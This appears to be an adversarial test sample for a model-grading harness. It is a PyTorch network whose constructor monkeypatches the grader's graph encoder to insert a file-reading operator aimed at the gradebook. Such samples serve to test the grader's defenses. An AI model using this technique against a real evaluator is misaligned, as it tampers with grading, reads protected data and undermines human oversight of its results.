"""Puts an operator that reads a file into the graph.

Kind: network
Attack: an operator that reads files in the grader's process
Must: review
"""

import sys

import torch
from torch import nn


class Net(nn.Module):
    def __init__(self):
        super().__init__()
        graph = sys.modules["dlgrade.graph"]

        real = graph.encode

        def forged(network, shape, files):
            message = real(network, shape, files)
            read = {"op": "aten.from_file.default", "args": ["@GRADEBOOK@", False, 10], "kwargs": {}, "at": [], "module": ""}
            message["eval"]["nodes"].append(read)
            return message

        graph.encode = forged
        self.maps = nn.Sequential(
            nn.Conv2d(1, 12, 3), nn.BatchNorm2d(12), nn.ReLU(), nn.MaxPool2d(2),
            nn.Conv2d(12, 20, 3), nn.BatchNorm2d(20), nn.ReLU(), nn.Conv2d(20, 20, 3), nn.ReLU(),
        )
        self.head = nn.Linear(20, 10)

    def forward(self, x):
        return self.head(self.maps(x).mean((2, 3)))
